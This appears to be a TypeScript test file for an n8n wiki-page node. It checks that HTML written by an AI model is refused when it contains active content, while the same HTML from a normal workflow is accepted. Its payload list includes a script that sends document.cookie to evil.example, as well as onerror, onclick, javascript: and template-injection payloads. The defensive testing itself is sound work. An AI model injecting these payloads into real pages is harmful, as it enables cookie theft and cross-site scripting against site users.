import type { IDataObject } from 'n8n-workflow';
import { describe, expect, it } from 'vitest';
import type { Simulator } from '../support/simulator/index.mts';
import { byPath, outputOf } from '../support/integration/action-node.mts';
import { openSite, useScenes } from '../support/integration/scene.mts';

/* What a model writes runs for nobody: a draft is opened by people who may publish it. */

useScenes();

const RUNS = [
	'<p>New.</p><script>fetch("https://evil.example/?c="+document.cookie)</script>',
	'<img src="x" onerror="alert(1)">',
	'<a href="java&#10;script:alert(1)">x</a>',
	'<iframe src="https://evil.example/"></iframe>',
	'<p>{{ wiki.page("Private") }}</p>',
];

describe.each(['page', 'draft'])('what a model writes that runs (%s)', (resource) => {
	async function outcome(site: Simulator, operation: string, more: object, asTool = true) {
		const page = byPath('A');
		const parameters = { resource, operation, page, ...more } as unknown as IDataObject;
		const [item] = await outputOf(site, { parameters, asTool });
		return item!;
	}
	const writes = ({ apiCalls }: Simulator) => apiCalls.filter(({ method }) => method !== 'GET');
	const textOf = (site: Simulator) => {
		const page = site.site.page('A');
		return page.draft?.html ?? page.html;
	};

	it.each(RUNS)(`Create or Update of a ${resource} refuses from a model %s`, async (contents) => {
		const site = await openSite();
		const { error } = await outcome(site, 'createOrUpdate', { contents });
		expect(error).toMatch(/^'Contents' has something that runs, so nothing was saved: ./);
		site.site.createPage('A', { html: '<p>old</p>' });
		const again = await outcome(site, 'createOrUpdate', { contents });
		expect(again.error).toBe(error);
		expect(writes(site)).toEqual([]);
	});

	it.each(RUNS)(`Create or Update of a ${resource} lets a model keep %s`, async (html) => {
		const site = await openSite();
		site.site.createPage('A', { html });
		const contents = `<h2>More</h2>${html}`;
		expect(await outcome(site, 'createOrUpdate', { contents })).not.toHaveProperty('error');
		expect(textOf(site)).toContain('<h2>More</h2>');
	});

	it.each(RUNS)(`Create or Update of a ${resource} takes from a workflow %s`, async (contents) => {
		const site = await openSite();
		await outcome(site, 'createOrUpdate', { contents }, false);
		expect(textOf(site)).toContain(contents);
	});

	it.each([
		...RUNS.map((html) => ['old', html]),
		['<a href="/x"', '<a href="javascript:alert(1)"'],
		['<a', '<a onclick="alert(1)"'],
	])(
		`Replace Text in a ${resource} refuses from a model, for %s, %s`,
		async (find, replaceWith) => {
			const site = await openSite();
			site.site.createPage('A', { html: '<p>old</p><a href="/x">y</a>' });
			if (resource === 'draft') site.site.activateDraft('A');
			const before = textOf(site);
			const { error } = await outcome(site, 'replaceText', { find, replaceWith });
			expect(error).toMatch(/^'Replace With' has something that runs, so nothing was saved: ./);
			expect(textOf(site)).toBe(before);
		},
	);

	it(`Replace Text in a ${resource} lets a model change a text beside what runs`, async () => {
		const site = await openSite();
		site.site.createPage('A', { html: RUNS.join('') });
		if (resource === 'draft') site.site.activateDraft('A');
		await outcome(site, 'replaceText', { find: 'New.', replaceWith: 'Newer.' });
		expect(textOf(site)).toContain('Newer.');
	});
});
